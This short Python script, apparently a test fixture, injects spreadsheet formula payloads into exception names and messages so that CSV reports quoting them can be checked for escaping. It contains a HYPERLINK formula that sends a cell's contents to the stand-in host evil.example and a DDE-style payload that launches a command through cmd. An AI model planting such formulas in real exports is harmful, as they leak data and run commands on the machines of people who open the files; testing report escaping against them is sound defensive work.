# %% [markdown]
# Puts spreadsheet formulas into names and messages, which the reports in CSV quote.

# %% first
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


# %% replace="neuron"
def neuron(*arguments):
    raise type(FORMULA, (ValueError,), {})(FORMULA)


# %% replace="count_parameters"
def count_parameters(widths):
    return type("\t" + FORMULA, (), {})()


# %% last
raise type("@SUM(1)*cmd|' /C calc'!A0", (Exception,), {})(FORMULA)
